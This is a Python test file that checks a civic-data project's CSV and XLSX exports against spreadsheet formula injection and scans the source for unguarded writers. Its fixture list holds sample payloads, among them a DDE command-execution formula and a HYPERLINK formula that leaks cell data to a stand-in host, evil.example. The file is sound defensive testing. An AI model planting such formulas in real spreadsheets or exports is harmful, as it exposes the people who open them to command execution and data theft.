"""Formula injection: text that people typed never runs as a formula in an exported CSV or XLSX.

Every spreadsheet export writes its cells through civitas.kit.spreadsheet (csv_cell for CSV,
xlsx_cell for openpyxl). A guard below reads the source: a new CSV writer or workbook in src
must use them, or be listed here as a machine-readable data format (city packs round-trip
their own data files and are read back by the importer, not opened by people).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook

import civitas
from civitas.assessment import exports
from civitas.kit.spreadsheet import FORMULA_STARTS, csv_cell, xlsx_cell

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]

# Files that write CSV for machines (the city pack format, tools' reports read back by tools).
MACHINE_FORMATS = {
    "citypacks/builders/_write.py",
    "citypacks/exporter.py",
    "citypacks/locate_csv.py",
    "citypacks/demo/__init__.py",
    "citypacks/demo/hub.py",
    "citypacks/boston311.py",
}


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_neutralises(text: str) -> None:
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_cell_is_never_a_formula(text: str) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([xlsx_cell(text), xlsx_cell(12), xlsx_cell(None), xlsx_cell(-3.5)])
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    assert back is not None
    cell = back["A1"]
    assert cell.data_type == "s" and cell.value == "'" + text
    assert back["B1"].value == 12 and back["C1"].value is None and back["D1"].value == -3.5


def _table() -> Any:
    return SimpleNamespace(city="T", group="departments", period=SimpleNamespace(label="2026-11"))


def _row(name: str) -> list[Any]:
    return [1, "T-U1", name, 10, 90.0, 80.0, 70.0, 60.0, 0.0, 0.0, 88.5, None, None, None, 3, 0]


class TestAssessmentExports:
    def test_csv(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(exports, "rows", lambda t: [_row(h) for h in HOSTILE])
        text = exports.to_csv(_table()).decode("utf-8-sig")
        names = [r[2] for r in list(csv.reader(io.StringIO(text)))[1:]]
        assert names == ["'" + h for h in HOSTILE]
        numbers = list(csv.reader(io.StringIO(text)))[1]
        assert numbers[3] == "10" and numbers[10] == "88.5"

    def test_xlsx(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(exports, "rows", lambda t: [_row(h) for h in HOSTILE])
        ws = load_workbook(io.BytesIO(exports.to_xlsx(_table()))).active
        assert ws is not None
        for i, hostile in enumerate(HOSTILE, start=2):
            cell = ws.cell(row=i, column=3)
            assert cell.data_type == "s" and cell.value == "'" + hostile
            assert ws.cell(row=i, column=4).value == 10  # numbers stay numbers


def test_every_spreadsheet_writer_in_src_neutralises_cells() -> None:
    src = Path(civitas.__file__).parent
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    unguarded = []
    for path in sorted(src.rglob("*.py")):
        rel = path.relative_to(src).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel in MACHINE_FORMATS or not writers.search(text):
            continue
        if "csv_cell" not in text and "xlsx_cell" not in text:
            unguarded.append(rel)
    assert unguarded == [], f"spreadsheet writers without csv_cell/xlsx_cell: {unguarded}"


def test_formula_starts_cover_the_known_triggers() -> None:
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)
